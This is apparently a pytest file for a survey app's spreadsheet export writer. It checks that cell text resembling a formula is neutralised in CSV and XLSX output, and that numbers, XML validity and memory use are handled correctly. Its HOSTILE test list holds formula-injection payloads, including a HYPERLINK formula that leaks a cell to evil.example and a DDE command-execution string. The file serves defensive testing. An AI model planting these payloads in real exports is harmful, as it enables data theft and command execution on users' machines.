"""The one writer: inert text in CSV and XLSX, numbers as numbers, files Excel
can open whatever a cell held, bounded memory for large exports."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from datetime import date, datetime
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from surveyapp.tables.cells import has_unstorable, is_formula_like, safe_text
from surveyapp.tables.writer import (
    Sheet,
    UnknownFormat,
    table_bytes,
    table_file,
    write_table,
)

# What a citizen may type, and what each must become.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－2+3",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
]


def _csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the Chinese as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _xlsx_cells(data: bytes, sheet: int = 0):
    book = load_workbook(io.BytesIO(data))  # not read-only: formulas show as 'f'
    return [list(row) for row in book.worksheets[sheet].iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_escaped_with_a_quote(text):
    assert is_formula_like(text)
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["-7", "+86", "3.5", "-1e5", "正常的意见", "a=b", " =1", "'=1", "#N/A"]
)
def test_ordinary_text_and_plain_numbers_are_left_alone(text):
    assert safe_text(text) == text


def test_csv_cells_are_inert():
    rows = [[i, text] for i, text in enumerate(HOSTILE)]
    cells = _csv_cells(table_bytes("csv", [Sheet("t", ["n", "text"], rows)]))
    assert cells[0] == ["n", "text"]
    assert [row[1] for row in cells[1:]] == ["'" + t for t in HOSTILE]


def test_xlsx_text_is_a_plain_string_never_a_formula():
    rows = [[i, text] for i, text in enumerate([*HOSTILE, "#N/A", "#REF!"])]
    cells = _xlsx_cells(table_bytes("xlsx", [Sheet("t", ["n", "text"], rows)]))
    texts = [row[1] for row in cells[1:]]
    assert all(cell.data_type == "s" for cell in texts)
    # XML reads a carriage return as a newline; the quote is what matters.
    expected = ["'" + t.replace("\r", "\n") for t in HOSTILE] + ["#N/A", "#REF!"]
    assert [c.value for c in texts] == expected
    assert not any(cell.data_type == "f" for row in cells for cell in row)


def test_numbers_stay_numbers():
    rows = [[-5, -2.5, 0, 3, float("nan"), None, True, date(2026, 11, 3)]]
    header = list("abcdefgh")
    [row] = _xlsx_cells(table_bytes("xlsx", [Sheet("t", header, rows)]))[1:]
    assert [c.value for c in row[:4]] == [-5, -2.5, 0, 3]
    assert all(c.data_type == "n" for c in row[:4])
    assert row[4].value is None and row[5].value is None  # NaN and None: blank
    assert row[6].value is True and row[7].value == "2026-11-03"
    [csv_row] = _csv_cells(table_bytes("csv", [Sheet("t", header, rows)]))[1:]
    assert csv_row == ["-5", "-2.5", "0", "3", "", "", "True", "2026-11-03"]


def test_text_xml_cannot_hold_never_breaks_the_file():
    bad = "好\ufffe评\uffff\x00\x01\x0b\ud800\U0001fffe\ufdd0!"
    assert has_unstorable(bad)
    data = table_bytes(
        "xlsx", [Sheet("t", ["text", "ok"], [[bad, "tab\tand\nnewline"]])]
    )
    # Every part of the package is well-formed XML (what Excel insists on) ...
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.endswith(".xml"):
                ElementTree.fromstring(package.read(name))
    # ... and the text lost only what it could not hold.
    [[text, ok]] = [[c.value for c in row] for row in _xlsx_cells(data)[1:]]
    assert text == "好评!" and ok == "tab\tand\nnewline"
    [[csv_text, _]] = _csv_cells(
        table_bytes("csv", [Sheet("t", ["a", "b"], [[bad, 1]])])
    )[1:]
    assert csv_text == "好评!"


def test_headers_are_made_inert_too():
    [header] = _csv_cells(table_bytes("csv", [Sheet("t", ["=evil", "ok"], [])]))
    assert header == ["'=evil", "ok"]


def test_several_sheets_in_xlsx_the_first_in_csv():
    sheets = [Sheet("one", ["a"], [[1]]), Sheet("two", ["b"], [["x"]])]
    book = load_workbook(io.BytesIO(table_bytes("xlsx", sheets)))
    assert book.sheetnames == ["one", "two"]
    assert _csv_cells(table_bytes("csv", sheets)) == [["a"], ["1"]]


def test_unknown_format_is_refused():
    with pytest.raises(UnknownFormat):
        table_bytes("ods", [Sheet("t", ["a"], [])])


def test_the_caller_file_stays_open():
    out = io.BytesIO()
    write_table(out, "csv", [Sheet("t", ["a"], [[1]])])
    assert not out.closed and out.getvalue().endswith(b"1\r\n")


@pytest.mark.parametrize(("fmt", "n"), [("csv", 150_000), ("xlsx", 15_000)])
def test_a_large_export_is_written_in_bounded_memory(fmt, n):
    """Rows come from a generator and go to a file that spills to disk: the
    memory held at once stays far below the export's size."""

    def rows():
        for i in range(n):
            yield [i, "窗口排队一个多小时没人管" * 3, datetime(2026, 11, 3, 10, i % 60)]

    tracemalloc.start()
    try:
        with table_file(fmt, [Sheet("t", ["n", "text", "at"], rows())]) as out:
            _current, peak = tracemalloc.get_traced_memory()
            data = out.read()
    finally:
        tracemalloc.stop()
    if fmt == "xlsx":
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            size = sum(member.file_size for member in package.infolist())
    else:
        size = len(data)
    assert size > 3_000_000  # the rows as written (an XLSX's unpacked XML)
    assert peak < size / 2
